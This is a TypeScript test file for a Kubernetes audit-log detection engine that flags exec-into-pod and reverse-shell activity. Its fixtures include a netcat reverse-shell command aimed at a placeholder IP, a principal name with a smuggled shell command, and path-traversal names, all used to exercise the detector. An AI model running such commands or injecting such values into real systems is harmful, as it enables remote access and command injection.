import { strict as assert } from 'node:assert';
import { evaluate } from '../../../shared/detection/evaluate.ts';
import type { AuditRule, Sighting } from '../../../shared/detection/rule.ts';
import { execIntoPod } from '../../../shared/detection/rules/exec-into-pod.ts';
import { finding } from '../../../shared/model/finding.ts';
import { firedBy, NOW, signalOf } from '../../fixtures/signals.ts';

const EXEC = { verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' };

/** A rule that reports this sighting for every signal. */
const seeing = (sighting: Sighting, facts: Partial<AuditRule> = {}): AuditRule => ({
  ...execIntoPod,
  id: 'sees-all',
  severity: 'high',
  confidence: 0.8,
  ...facts,
  match: () => sighting,
});

describe('evaluating a signal', () => {
  it('asks every rule, so that one event may have several findings', () => {
    const signal = signalOf({ ...EXEC, command: 'nc -e /bin/sh 203.0.113.9 4444' });
    const found = evaluate(signal, NOW).map((one) => one.rule);
    assert.deepEqual(found, ['exec-into-pod', 'exec-reverse-shell']);
  });

  it('gives a redelivered event the same ids, and every rule, event and target its own', () => {
    const rules = [seeing({ because: ['a'] }), seeing({ because: ['a'] }, { id: 'sees-too' })];
    const ids = (name: string, insertId: string): string[] =>
      evaluate(signalOf({ ...EXEC, name, insertId }), NOW, rules).map((one) => one.id);
    assert.deepEqual(ids('cart-0', 'i1'), ids('cart-0', 'i1'));
    assert.equal(new Set([...ids('cart-0', 'i1'), ...ids('cart-0', 'i2')]).size, 4);
    const on = (pod: string): Sighting => ({ because: ['a'], on: { namespace: 'shop', pod } });
    const [one, other] = [on('a'), on('b')].map((sighting) => firedBy(seeing(sighting), EXEC).id);
    assert.notEqual(one, other);
    assert.match(one ?? '', /^f-[0-9a-f]{24}$/);
  });

  it('names the principal, however long its name is', () => {
    for (const principal of ["o'brien@example.com", `system:serviceaccount:${'s'.repeat(63)}:${'a'.repeat(253)}`]) {
      const found = firedBy(seeing({ because: ['a'] }), { ...EXEC, principal });
      assert.deepEqual([found.principal, found.target.principal], [principal, principal]);
    }
  });

  it('lowers a claim about a call that failed, and says why it failed', () => {
    const rule = seeing({ because: ['a'] }, { conclusive: true });
    const refused = firedBy(rule, { ...EXEC, code: 7, message: 'pods is forbidden' });
    assert.deepEqual([refused.severity, refused.confidence, refused.conclusive], ['medium', 0.7, undefined]);
    assert.match(refused.because[1] ?? '', /the call was refused, with code 7 and the message "pods is forbidden"/);
    const admission = firedBy(rule, { ...EXEC, code: 7, decision: 'allow', message: 'failed quota' });
    assert.match(admission.because[1] ?? '', /authorized, but refused by admission or quota/);
    assert.match(firedBy(rule, { ...EXEC, code: 13 }).because[1] ?? '', /the call failed, with code 13/);
  });

  it('does not lower severity below low or confidence below 0', () => {
    const rule = seeing({ because: ['a'], severity: 'low', confidence: 0.05 });
    const { severity, confidence } = firedBy(rule, { ...EXEC, code: 7 });
    assert.deepEqual([severity, confidence], ['low', 0]);
  });

  it('lowers the confidence for a part of a split entry, and says so', () => {
    const found = firedBy(seeing({ because: ['a'] }), { ...EXEC, split: { uid: 'u', index: 1, totalSplits: 2 } });
    assert.equal(found.confidence, 0.48);
    assert.match(found.because.join(), /split because of its size/);
  });

  it('keeps names that Kubernetes does not allow out of the target', () => {
    const hostile = ['../secrets', 'a b', 'a_B', 'x'.repeat(300), 'a\u0000', 'a/b', ''];
    for (const name of hostile) {
      for (const on of [
        { namespace: 'shop', pod: name },
        { namespace: name, pod: 'cart-0' },
        { namespace: 'shop', workload: { kind: 'Deployment', name } },
        { namespace: 'shop', workload: { kind: name, name: 'cart' } },
      ]) {
        const { target, because } = firedBy(seeing({ because: ['a'], on }), EXEC);
        assert.deepEqual(target, {
          project: 'p1',
          location: 'europe-west1',
          cluster: 'c1',
          principal: 'ana@example.com',
        });
        assert.match(because.join(), /Kubernetes does not allow .*: the finding is only about the cluster/);
      }
    }
  });

  it('leaves out a principal that could be more than a name', () => {
    const found = firedBy(seeing({ because: ['a'] }), { ...EXEC, principal: 'ana@example.com"; rm' });
    assert.equal(found.principal, undefined);
    assert.equal(found.target.principal, undefined);
  });

  it('keeps a finding small, whatever a rule reports', () => {
    const sighting = { because: Array.from({ length: 50 }, () => `\u0007${'x'.repeat(5000)}`) };
    const found = firedBy(seeing(sighting), EXEC);
    assert.ok(finding.safeParse(found).success);
    assert.equal(found.because.length, 20);
    assert.ok(found.because.every((sentence) => sentence.length <= 1000 && sentence.startsWith('x')));
  });
});
